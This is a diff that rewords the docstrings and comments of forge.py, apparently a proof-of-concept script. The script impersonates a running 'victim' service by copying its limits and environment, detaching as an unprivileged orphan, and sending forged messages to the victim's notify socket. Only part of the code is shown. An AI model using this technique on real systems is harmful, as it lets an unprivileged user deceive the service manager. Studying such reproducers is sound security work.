@@ -1,8 +1,8 @@
-"""forge.py VICTIM MESSAGE...: an unprivileged orphan with the tracking limit and environment of another service.
+"""forge.py VICTIM MESSAGE...: an unprivileged orphan that shows the tracking limit and environment of another service.
 
-It waits for a process whose last argument is VICTIM, takes over that process's hard limit of RSS and its variables,
-leaves its parent and its session, becomes nobody, and sends each MESSAGE to the NOTIFY_SOCKET of the victim
-(/proc/net/unix shows the paths to every user). PID in a message stands for its own pid.
+Waits for a process whose last argument is VICTIM, takes over its hard limit of RSS and its variables, loses its parent
+and its session, becomes nobody, and sends each MESSAGE to the NOTIFY_SOCKET of the victim (/proc/net/unix shows the
+paths to everybody). In a message PID is its own pid.
 """
 
 import os
@@ -13,7 +13,7 @@ import time
 
 
 def victim() -> tuple[int, bytes]:
-    """The hard limit and the environment of the victim, once it is running."""
+    """The hard limit and the environment of the victim, once it is there."""
     while True:
         for pid in filter(str.isdigit, os.listdir("/proc")):
             try:
@@ -32,7 +32,7 @@ def victim() -> tuple[int, bytes]:
 
 limit, environment = victim()
 if os.fork():
-    time.sleep(1000)  # the service keeps running beside the orphan
+    time.sleep(1000)  # the service lives on beside the orphan
 if os.fork():
     os._exit(0)
 os.setsid()
